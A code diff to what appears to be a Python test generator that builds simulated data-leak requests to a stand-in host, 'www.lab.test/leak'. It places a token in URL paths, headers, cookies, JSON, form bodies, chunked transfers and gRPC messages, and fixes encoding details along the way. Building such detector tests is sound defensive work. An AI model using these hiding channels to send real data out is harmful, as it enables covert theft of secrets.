@@ -34,7 +34,7 @@ def place_path(h, t): return f"fetch('www.lab.test', '/leak/' + {quoted(t).repla
 def place_field(h, t): return f"fetch('www.lab.test', '/leak', fields=('X-Context: ' + {oneline(t)!r},))[0]"
 def place_cookie(h, t): return f"fetch('www.lab.test', '/leak', fields=('Cookie: theme=dark; id=' + {oneline(t)!r},))[0]"
 def place_json(h, t): return f"post('www.lab.test', '/leak', {json.dumps({'a': [1, {'note': t.decode('latin1')}]}).encode()!r}, 'Content-Type: application/json')"
-def place_form(h, t): return f"post('www.lab.test', '/leak', {b'a=1&b=' + quoted(t).encode() + b'&c=3'!r}, 'Content-Type: application/x-www-form-urlencoded')"
+def place_form(h, t): return f"post('www.lab.test', '/leak', {b'a=1&b=' + quoted(t, '+').encode() + b'&c=3'!r}, 'Content-Type: application/x-www-form-urlencoded')"
 def place_raw(h, t): return f"post('www.lab.test', '/leak', {t!r}, 'Content-Type: application/octet-stream')"
 def place_chunks(h, t): return f"chunked('www.lab.test', '/leak', {[t[i:i + 11] for i in range(0, len(t), 11)]!r})"
 def place_frames(h, t): return f"frames('www.lab.test', {[t[:9], t[9:]]!r}, 2)"
@@ -51,12 +51,18 @@ def place_argument(h, t):
 
 
 def place_grpc(h, t):
-    body = b"\0" + (len(t) + 2).to_bytes(4, "big") + b"\x0a" + bytes([len(t) & 0x7f]) + t
+    n, length = len(t), b""
+    while n > 0x7f:
+        length, n = length + bytes([n & 0x7f | 0x80]), n >> 7
+    message = b"\x0a" + length + bytes([n]) + t
+    body = b"\0" + len(message).to_bytes(4, "big") + message
     return f"post('www.lab.test', '/leak', {body!r}, 'Content-Type: application/grpc')"
 
 
-def quoted(t):
-    return "".join(chr(c) if c < 128 and chr(c).isalnum() or chr(c) in "-_.~%+/" else f"%{c:02X}" for c in t)
+def quoted(t, space="%20"):
+    """Of text the signs of encodings stay as they are, as careless programs send them; of bytes none may: who decodes gets these again."""
+    kept = "-_.~" + ("%+/" if all(c in b"\r\n" or 32 <= c < 127 for c in t) else "")
+    return "".join(chr(c) if c < 128 and chr(c).isalnum() or chr(c) in kept else space if c == 32 else f"%{c:02X}" for c in t)
 
 
 def oneline(t):
